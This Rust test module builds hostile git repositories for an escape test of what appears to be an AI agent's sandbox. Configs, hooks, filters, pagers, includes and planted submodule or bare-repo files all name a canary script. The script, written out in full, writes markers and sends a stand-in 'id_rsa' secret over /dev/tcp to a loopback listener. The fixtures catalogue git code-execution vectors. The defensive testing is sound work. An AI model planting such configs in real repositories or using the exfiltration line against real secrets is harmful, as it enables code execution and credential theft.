//! Hostile repositories for the escape oracle: a git repository whose own
//! files name a program (a filter's `clean`, `core.fsmonitor`, hooks, a
//! pager, a textconv driver, `gpg.program`, includes, a planted `commondir`,
//! a submodule's config, a bare repository as plain files, ...), and a
//! [`Canary`], the program they name, which must never run: when it does,
//! it leaves a marker beside itself (outside the workspace), one in the
//! workspace, and sends a "secret" file to a loopback listener the test
//! holds. [`Canary::hits`] reports each of those.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};

use crate::git::git;

/// Every fixture, by name.
pub const FIXTURES: &[&str] = &[
    "filter-clean",
    "filter-process",
    "filter-smudge",
    "fsmonitor",
    "hooks",
    "pager",
    "textconv",
    "ext-diff",
    "gpg-show-signature",
    "include-path",
    "include-if",
    "planted-commondir",
    "submodule-config",
    "bare-under-agent",
    "planted-worktree-index",
    "links-and-fifos",
];

/// The program the hostile repositories name, and what it would leave.
pub struct Canary {
    dir: tempfile::TempDir,
    listener: TcpListener,
    /// The program: `canary.sh LABEL`.
    pub script: PathBuf,
    /// A file outside the workspace the canary tries to send.
    pub secret: PathBuf,
}

/// What the canary leaves in a workspace it could write.
pub const WORKSPACE_MARK: &str = ".canary-ran";

impl Canary {
    /// A canary in a fresh folder outside `/tmp` (which confined commands
    /// may read and write) and outside any workspace.
    pub fn new() -> Self {
        // Beside the test binary, unless that is under a temp folder (a
        // checkout in /tmp) or this user may not write there (another
        // user's build): then in the home folder.
        let in_temp = |p: &Path| ["/tmp", "/var/tmp"].iter().any(|t| p.starts_with(t));
        let mut tried = Vec::new();
        let dir = std::env::current_exe()
            .ok()
            .and_then(|p| p.parent().map(Path::to_path_buf))
            .into_iter()
            .chain(std::env::var_os("HOME").map(PathBuf::from))
            .filter(|p| !in_temp(p))
            .find_map(|base| {
                let made = tempfile::Builder::new().prefix("canary-").tempdir_in(&base);
                made.map_err(|e| tried.push(format!("{}: {e}", base.display()))).ok()
            })
            .unwrap_or_else(|| {
                panic!("no folder outside /tmp for the canary (set HOME); tried {tried:?}")
            });
        let listener = TcpListener::bind("127.0.0.1:0").expect("a loopback listener");
        listener.set_nonblocking(true).expect("non-blocking");
        let port = listener.local_addr().expect("its port").port();
        let secret = dir.path().join("id_rsa");
        std::fs::write(&secret, "CANARY-SECRET\n").expect("the secret");
        let script = dir.path().join("canary.sh");
        let text = format!(
            "#!/bin/bash\n\
             echo \"$*\" >> '{ran}' 2>/dev/null\n\
             echo \"$*\" >> \"$PWD/{WORKSPACE_MARK}\" 2>/dev/null\n\
             (exec 3<>/dev/tcp/127.0.0.1/{port}; cat '{secret}' >&3) 2>/dev/null\n\
             cat 2>/dev/null\n\
             exit 0\n",
            ran = dir.path().join("ran").display(),
            secret = secret.display(),
        );
        std::fs::write(&script, text).expect("the canary");
        let mut perms = std::fs::metadata(&script).expect("canary").permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
        std::fs::set_permissions(&script, perms).expect("executable");
        Canary { dir, listener, script, secret }
    }

    /// The command line a hostile config names: `canary.sh LABEL`.
    pub fn command(&self, label: &str) -> String {
        format!("{} {label}", self.script.display())
    }

    /// Everything the canary did: ran (its own marker), wrote the workspace
    /// (a [`WORKSPACE_MARK`] anywhere beneath `workspace`), or sent anything
    /// to the listener. Empty when it never ran. What it reports is
    /// cleared, so the next call reports only what happened since.
    pub fn hits(&self, workspace: &Path) -> Vec<String> {
        let mut hits = Vec::new();
        let ran = self.dir.path().join("ran");
        if let Ok(text) = std::fs::read_to_string(&ran) {
            hits.push(format!("ran: {}", first_lines(&text)));
            let _ = std::fs::remove_file(&ran);
        }
        for mark in find_named(workspace, WORKSPACE_MARK) {
            let text = std::fs::read_to_string(&mark).unwrap_or_default();
            hits.push(format!("wrote {}: {}", mark.display(), first_lines(&text)));
            let _ = std::fs::remove_file(&mark);
        }
        while let Ok((mut stream, _)) = self.listener.accept() {
            let _ = stream.set_nonblocking(false);
            let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(2)));
            let mut got = String::new();
            let _ = stream.read_to_string(&mut got);
            hits.push(format!("sent: {}", got.trim()));
        }
        hits
    }
}

impl Default for Canary {
    fn default() -> Self {
        Self::new()
    }
}

/// The distinct lines of `text`, joined.
fn first_lines(text: &str) -> String {
    let mut lines: Vec<&str> = text.lines().collect();
    lines.dedup();
    lines.join(", ")
}

fn find_named(dir: &Path, name: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else { continue };
        for entry in entries.flatten() {
            let path = entry.path();
            if entry.file_name() == name {
                found.push(path);
            } else if entry.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push(path);
            }
        }
    }
    found
}

/// Makes `dir` a committed repository with a changed file, then plants
/// `fixture` (one of [`FIXTURES`]) naming `canary`.
pub fn hostile_repo(dir: &Path, fixture: &str, canary: &Canary) {
    crate::git::init_repo(dir, "a.txt", "one\n");
    // A real linked worktree `evil` (what `worktree_create` makes), so the
    // worktree tools run git where the hostile config applies.
    let linked = !matches!(fixture, "planted-worktree-index" | "bare-under-agent");
    if linked {
        let path = dir.join(".agent/worktrees/evil");
        let text = path.display().to_string();
        git(dir, &["worktree", "add", "-q", "-b", "wt/evil", &text]);
        plant_index(dir);
    }
    let cmd = |label: &str| canary.command(&format!("{fixture}:{label}"));
    let config = |key: &str, value: &str| {
        git(dir, &["config", key, value]);
    };
    let attributes = |text: &str| {
        std::fs::write(dir.join(".git/info/attributes"), text).expect("attributes");
    };
    match fixture {
        "filter-clean" => {
            config("filter.evil.clean", &cmd("clean"));
            std::fs::write(dir.join(".gitattributes"), "* filter=evil\n").expect("attrs");
            attributes("* filter=evil\n");
        }
        "filter-process" => {
            config("filter.evil.process", &cmd("process"));
            config("filter.evil.required", "true");
            attributes("* filter=evil\n");
        }
        "filter-smudge" => {
            config("filter.evil.smudge", &cmd("smudge"));
            attributes("* filter=evil\n");
        }
        "fsmonitor" => config("core.fsmonitor", &cmd("fsmonitor")),
        "hooks" => {
            for hook in ["post-checkout", "pre-commit", "post-commit", "reference-transaction"] {
                let path = dir.join(".git/hooks").join(hook);
                std::fs::write(&path, format!("#!/bin/sh\n{}\n", cmd(hook))).expect("hook");
                let mut perms = std::fs::metadata(&path).expect("hook").permissions();
                std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
                std::fs::set_permissions(&path, perms).expect("executable");
            }
        }
        "pager" => {
            config("core.pager", &cmd("core.pager"));
            config("pager.status", &cmd("pager.status"));
            config("pager.log", &cmd("pager.log"));
        }
        "textconv" => {
            config("diff.evil.textconv", &cmd("textconv"));
            attributes("* diff=evil\n");
        }
        "ext-diff" => {
            config("diff.external", &cmd("diff.external"));
            config("diff.evil.command", &cmd("diff.command"));
            attributes("* diff=evil\n");
        }
        "gpg-show-signature" => {
            config("gpg.program", &cmd("gpg"));
            config("log.showSignature", "true");
        }
        "include-path" | "include-if" => {
            let included = dir.join(".git/evil.inc");
            std::fs::write(
                &included,
                format!(
                    "[core]\n\tfsmonitor = {}\n[filter \"evil\"]\n\tclean = {}\n",
                    cmd("included-fsmonitor"),
                    cmd("included-clean")
                ),
            )
            .expect("include");
            let key = if fixture == "include-path" {
                "include.path".to_string()
            } else {
                format!("includeIf.gitdir:{}/.path", dir.display())
            };
            config(&key, &included.display().to_string());
            attributes("* filter=evil\n");
        }
        "planted-commondir" => {
            let elsewhere = dir.join(".agent/elsewhere");
            std::fs::create_dir_all(&elsewhere).expect("elsewhere");
            for sub in ["objects", "refs"] {
                std::fs::create_dir_all(elsewhere.join(sub)).expect("sub");
            }
            std::fs::write(
                elsewhere.join("config"),
                format!("[core]\n\tfsmonitor = {}\n", cmd("commondir-fsmonitor")),
            )
            .expect("config");
            std::fs::write(dir.join(".git/commondir"), "../.agent/elsewhere\n").expect("ptr");
        }
        "submodule-config" => {
            let module = dir.join(".git/modules/sub");
            std::fs::create_dir_all(module.join("hooks")).expect("module");
            std::fs::write(
                module.join("config"),
                format!(
                    "[core]\n\tfsmonitor = {}\n\tworktree = ../../../sub\n[filter \"evil\"]\n\tclean = {}\n",
                    cmd("module-fsmonitor"),
                    cmd("module-clean")
                ),
            )
            .expect("module config");
            std::fs::create_dir_all(dir.join("sub")).expect("sub");
            std::fs::write(dir.join("sub/.git"), "gitdir: ../.git/modules/sub\n").expect("ptr");
            attributes("* filter=evil\n");
        }
        "bare-under-agent" => {
            let bare = dir.join(".agent/worktrees/evil");
            std::fs::create_dir_all(bare.join("objects")).expect("bare");
            std::fs::create_dir_all(bare.join("refs")).expect("bare");
            std::fs::write(bare.join("HEAD"), "ref: refs/heads/main\n").expect("HEAD");
            std::fs::write(
                bare.join("config"),
                format!(
                    "[core]\n\tbare = true\n\tfsmonitor = {}\n\tpager = {}\n",
                    cmd("bare-fsmonitor"),
                    cmd("bare-pager")
                ),
            )
            .expect("config");
            plant_index(dir);
        }
        "planted-worktree-index" => {
            // A whole repository of its own where a worktree would be, and
            // an index naming it.
            let evil = dir.join(".agent/worktrees/evil");
            std::fs::create_dir_all(&evil).expect("folder");
            crate::git::init_repo(&evil, "b.txt", "two\n");
            git(&evil, &["config", "core.fsmonitor", &cmd("indexed-fsmonitor")]);
            git(&evil, &["config", "filter.evil.clean", &cmd("indexed-clean")]);
            std::fs::write(evil.join(".gitattributes"), "* filter=evil\n").expect("attrs");
            // The same size: git must read the file (through its filter) to see the change.
            std::fs::write(evil.join("b.txt"), "six\n").expect("change");
            plant_index(dir);
        }
        "links-and-fifos" => {
            std::os::unix::fs::symlink(&canary.secret, dir.join("secret-link")).expect("link");
            let fifo = dir.join("pipe");
            let ok = std::process::Command::new("mkfifo").arg(&fifo).status();
            assert!(ok.is_ok_and(|s| s.success()), "mkfifo");
            config("filter.evil.clean", &cmd("clean-on-link"));
            attributes("* filter=evil\n");
        }
        other => panic!("unknown fixture {other}"),
    }
    // The same size: git must read the files (through filters) to see the change.
    std::fs::write(dir.join("a.txt"), "two\n").expect("a change");
    if linked {
        std::fs::write(dir.join(".agent/worktrees/evil/a.txt"), "six\n").expect("a change");
    }
}

/// `.agent/worktrees/index.json` naming an active worktree `evil` (and the
/// folder's `.gitignore`, as ferroclaw writes it).
fn plant_index(dir: &Path) {
    let index = serde_json::json!({"worktrees": [{
        "name": "evil", "path": dir.join(".agent/worktrees/evil"), "branch": "wt/evil",
        "base_ref": "HEAD", "status": "active"
    }]});
    std::fs::write(dir.join(".agent/worktrees/index.json"), index.to_string()).expect("index");
    std::fs::write(dir.join(".agent/worktrees/.gitignore"), "*\n").expect("gitignore");
}
